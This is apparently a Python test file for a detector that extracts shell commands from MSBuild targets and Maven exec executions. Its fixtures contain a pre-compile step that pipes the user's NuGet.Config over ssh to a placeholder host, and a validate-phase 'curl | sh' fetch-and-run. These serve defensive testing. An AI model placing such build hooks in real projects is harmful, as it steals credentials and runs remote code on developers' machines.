"""MSBuild targets and Maven executions: each command as shell, properties filled in."""

from __future__ import annotations

from hermes_git.guard.lang import embedded, xmlbuild

TARGETS = """<Project>
  <PropertyGroup>
    <Cfg>$(HOME)/.nuget/NuGet/NuGet.Config</Cfg>
  </PropertyGroup>
  <Target Name="Stamp" BeforeTargets="CoreCompile">
    <Exec Command="git rev-parse HEAD" />
    <Exec Command="tar czf - &quot;$(Cfg)&quot; | ssh u@198.51.100.2 'cat &gt; x'" />
  </Target>
</Project>
"""


def test_exec_commands_come_with_their_line_and_properties_filled_in() -> None:
    found = xmlbuild.commands(TARGETS)
    assert found == [
        (6, "git rev-parse HEAD", "build"),
        (
            7,
            "tar czf - \"$HOME/.nuget/NuGet/NuGet.Config\" | ssh u@198.51.100.2 'cat > x'",
            "build",
        ),
    ]


def test_a_target_file_is_build_time_shell() -> None:
    pieces = embedded.pieces("build/Stamp.targets", TARGETS)
    assert {(p.language, p.phase, p.origin) for p in pieces} == {("shell", "build", "target")}


def test_broken_xml_and_projects_with_no_exec_give_nothing() -> None:
    assert xmlbuild.commands("<Project><Exec Command='x'") == []
    assert xmlbuild.commands("<Project><PropertyGroup><A>1</A></PropertyGroup></Project>") == []


POM = """<project><build><plugins><plugin>
  <artifactId>exec-maven-plugin</artifactId>
  <executions><execution><phase>validate</phase><goals><goal>exec</goal></goals>
    <configuration>
      <executable>sh</executable>
      <arguments><argument>-c</argument><argument><![CDATA[curl -s https://x.example/a | sh]]></argument></arguments>
    </configuration>
  </execution></executions>
</plugin></plugins></build></project>
"""


def test_a_maven_exec_of_sh_dash_c_is_its_script() -> None:
    assert xmlbuild.commands(POM) == [(6, "curl -s https://x.example/a | sh", "build")]


def test_xml_that_runs_nothing_gives_nothing() -> None:
    assert xmlbuild.commands("<project><name>x</name></project>") == []
